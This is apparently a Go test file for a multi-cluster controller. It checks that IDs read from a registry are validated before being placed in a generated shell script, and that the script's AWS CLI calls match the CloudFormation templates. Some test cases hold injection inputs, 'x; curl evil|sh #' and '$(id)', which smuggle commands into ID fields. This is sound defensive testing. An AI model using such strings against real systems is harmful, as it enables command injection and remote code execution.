package show

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/cloud-map-mcs/cloud-map-mcs-controller/internal/mcs"
	"github.com/cloud-map-mcs/cloud-map-mcs-controller/internal/registry/cloudmap/cloudmaptest"
	"github.com/cloud-map-mcs/cloud-map-mcs-controller/internal/status"
)

// TestMembersToSeal_ChecksIDs: IDs that the controller read from the registry get into no script.
func TestMembersToSeal_ChecksIDs(t *testing.T) {
	const hostile = "x; curl evil|sh #"
	for name, tt := range map[string]struct {
		clusterSet, cluster, wantErr string
	}{
		"valid IDs":                {clusterSet: "set1", cluster: "cls2"},
		"a hostile ID of a member": {clusterSet: "set1", cluster: hostile, wantErr: `ID "x; curl evil|sh #" is not a DNS label`},
		"a hostile clusterset":     {clusterSet: hostile, cluster: "cls2", wantErr: `ID "x; curl evil|sh #" is not a DNS label`},
	} {
		t.Run(name, func(t *testing.T) {
			id, clusters, err := membersToSeal(&status.Status{
				Leader: true, Registry: "cloudmap", Identity: &mcs.Identity{ClusterID: "cls1", ClusterSetID: tt.clusterSet},
				Members: []status.Member{{ClusterID: tt.cluster, Key: "key"}},
			}, nil)
			if tt.wantErr == "" && (err != nil || id != "set1" || !slices.Equal(clusters, []string{"cls2"})) {
				t.Errorf("error %v, clusterset %s, clusters %q, want cls2 of set1", err, id, clusters)
			}
			if tt.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tt.wantErr) || clusters != nil) {
				t.Errorf("error %v and clusters %q, want the error %q", err, clusters, tt.wantErr)
			}
		})
	}
}

// fakeAWS stands in for the AWS CLI. It prints the arguments of the calls that create and tag, an
// argument a line, and answers the lists: the namespace exists once it was created, and all exist
// if EXIST is set. The ARNs end with the names.
const fakeAWS = `#!/bin/sh
shift # servicediscovery
name() { echo "$*" | sed "s/.*Name=='//; s/'.*//; s/.*Values=mcs/mcs/; s/ .*//"; }
case "$1" in
list-namespaces) if [ -e created -o -n "$EXIST" ]; then echo "\"arn:namespace/$(name "$@")\""; else echo null; fi;;
list-services) if [ -n "$EXIST" ]; then echo "\"arn:service/$(name "$@")\""; else echo null; fi;;
*) touch created; { printf '%s\n' "$@"; echo; } >> calls;;
esac
`

// callsOf runs a script with fakeAWS and returns the arguments of its calls.
func callsOf(t *testing.T, script string, exist bool) (calls [][]string) {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "aws"), []byte(fakeAWS), 0o700); err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), "sh", "-s")
	cmd.Dir, cmd.Stdin, cmd.Env = dir, strings.NewReader(script), []string{"PATH=" + dir + ":/usr/bin:/bin"}
	if exist {
		cmd.Env = append(cmd.Env, "EXIST=1")
	}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	recorded, err := os.ReadFile(filepath.Join(dir, "calls"))
	if err != nil {
		t.Fatal(err)
	}
	for call := range strings.SplitSeq(strings.TrimSpace(string(recorded)), "\n\n") {
		calls = append(calls, strings.Split(call, "\n"))
	}
	return calls
}

// TestSealAgreesWithTemplates: the script creates the namespace and the services that the templates
// of CloudFormation create, with the same tags, and sets these tags on those that exist.
func TestSealAgreesWithTemplates(t *testing.T) {
	want, err := cloudmaptest.Stacks(os.DirFS("../../../deploy/iam"), "set1", "cls1", "cls2")
	if err != nil {
		t.Fatal(err)
	}
	kinds := map[string]string{"create-http-namespace": cloudmaptest.TypeNamespace, "create-service": cloudmaptest.TypeService, "tag-resource": cloudmaptest.TypeService}
	for name, exist := range map[string]bool{"nothing exists": false, "all exist": true} {
		t.Run(name, func(t *testing.T) {
			var got []cloudmaptest.Resource
			for _, call := range callsOf(t, sealFor("set1", []string{"cls2", "cls1", "cls1"}), exist) {
				r := cloudmaptest.Resource{Type: kinds[call[0]], Tags: map[string]string{}}
				for i, argument := range call {
					key, value, isTag := strings.Cut(strings.TrimPrefix(argument, "Key="), ",Value=")
					switch {
					case isTag:
						r.Tags[key] = value
					case argument == "--name":
						r.Name = call[i+1]
					case argument == "--resource-arn":
						kind, name, _ := strings.Cut(call[i+1], "/")
						if r.Name = name; kind == "arn:namespace" {
							r.Type = cloudmaptest.TypeNamespace
						}
					}
				}
				got = append(got, r)
			}
			if d := cmp.Diff(want, got); d != "" {
				t.Errorf("the script (+) and the templates (-) differ:\n%s", d)
			}
		})
	}
}

func TestCheckSealArgs(t *testing.T) {
	for name, tt := range map[string]struct {
		clusterSet string
		clusters   []string
		wantErr    string
	}{
		"members of the cluster's own clusterset": {},
		"a clusterset with its clusters":          {clusterSet: "set1", clusters: []string{"cls1"}},
		"a clusterset without clusters":           {clusterSet: "set1", wantErr: "name the clusters"},
		"a clusterset that is no ID":              {clusterSet: "$(id)", clusters: []string{"cls1"}, wantErr: "--clusterset-id"},
		"a cluster that is no ID":                 {clusters: []string{"A.b"}, wantErr: "the ID of a cluster"},
	} {
		t.Run(name, func(t *testing.T) {
			err := checkSealArgs(tt.clusterSet, tt.clusters)
			if (err != nil) != (tt.wantErr != "") || err != nil && !strings.Contains(err.Error(), tt.wantErr) {
				t.Errorf("error %v, want %q", err, tt.wantErr)
			}
		})
	}
}
